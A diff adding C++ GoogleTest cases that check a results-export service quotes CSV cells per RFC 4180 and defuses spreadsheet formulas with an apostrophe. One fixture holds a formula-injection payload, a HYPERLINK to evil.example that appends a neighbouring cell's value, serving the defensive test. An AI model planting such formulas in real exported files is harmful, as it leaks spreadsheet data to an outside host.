@@ -2,6 +2,8 @@
 
 #include <gtest/gtest.h>
 
+#include "services/ResultsExport.h"
+
 namespace kc {
 namespace {
 
@@ -74,6 +76,29 @@ TEST(CsvTableTest, ACellLongerThanTheTextLimitIsRefused) {
     ASSERT_EQ(r.error().details.size(), 1u);
     EXPECT_EQ(r.error().details[0].path, "row 3");
     EXPECT_EQ(r.error().details[0].message, "Có ô dài quá 10000 ký tự");
+}
+
+// Text a person typed that Excel would run as a formula gets an apostrophe; quoting as RFC 4180.
+TEST(CsvTableTest, CellsAreQuotedAndFormulasDefused) {
+    EXPECT_EQ(csvCell("UBND xã Phúc Khánh", true), "UBND xã Phúc Khánh");
+    EXPECT_EQ(csvCell("=HYPERLINK(\"http://x\")", true), "\"'=HYPERLINK(\"\"http://x\"\")\"");
+    EXPECT_EQ(csvCell("+1", true), "'+1");
+    EXPECT_EQ(csvCell("@SUM(A1:A2)", true), "'@SUM(A1:A2)");
+    EXPECT_EQ(csvCell("a, b", true), "\"a, b\"");
+    EXPECT_EQ(csvCell("-1.50", false), "-1.50");  // not typed text: kept
+}
+
+// The results CSV (GET …/results/export?format=csv) defuses a unit or grade name like the
+// evidence manifest does.
+TEST(CsvTableTest, TheResultsCsvDefusesFormulasInNames) {
+    Sheet sheet;
+    sheet.header = {"Tên đơn vị", "Điểm"};
+    sheet.rows = {{SheetCell::of(std::string("=HYPERLINK(\"http://evil.example/?\"&B2)")),
+                   SheetCell::of(Points::fromHundredths(-150))}};
+    const std::string csv = sheetCsv(sheet);
+    EXPECT_NE(csv.find("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2)\",-1.50\r\n"),
+              std::string::npos)
+        << csv;
 }
 
 }  // namespace
